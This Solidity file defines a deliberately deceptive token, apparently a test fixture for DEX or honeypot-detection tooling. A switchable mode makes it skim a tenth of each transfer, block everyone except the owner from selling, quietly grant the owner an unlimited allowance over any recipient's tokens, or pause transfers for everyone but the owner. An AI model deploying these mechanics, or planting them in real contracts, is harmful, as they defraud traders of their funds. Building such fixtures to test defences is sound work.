// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

/// A token that cheats its traders. `mode` selects how.
contract Trap {
    string public constant name = "Trap";
    string public constant symbol = "TRAP";
    uint8 public immutable decimals;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address private immutable owner;
    /// 1: keeps a tenth of every transfer. 2: only the owner can sell. 3: a buyer unknowingly lets the owner take all tokens.
    /// 4: an allowance can only be set if the current one is zero. 5: only the owner can transfer.
    uint8 public mode;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint8 digits) {
        owner = msg.sender;
        decimals = digits;
        // Pools of Uniswap v2 store reserves in 112 bits.
        totalSupply = digits > 24 ? 10 ** 33 : 1_000_000 * 10 ** digits;
        balanceOf[msg.sender] = totalSupply;
    }

    function set(uint8 next) external {
        mode = next;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        require(mode != 4 || value == 0 || allowance[msg.sender][spender] == 0, "first to zero");
        allow(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(msg.sender, to, value);
        if (mode == 3) allow(to, owner, type(uint256).max);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(mode != 2 || from == owner, "no");
        allowance[from][msg.sender] -= value;
        move(from, to, value);
        return true;
    }

    function allow(address from, address spender, uint256 value) private {
        allowance[from][spender] = value;
        emit Approval(from, spender, value);
    }

    function move(address from, address to, uint256 value) private {
        require(mode != 5 || from == owner, "paused");
        uint256 kept = mode == 1 ? value / 10 : 0;
        balanceOf[from] -= value;
        balanceOf[to] += value - kept;
        emit Transfer(from, to, value - kept);
    }
}
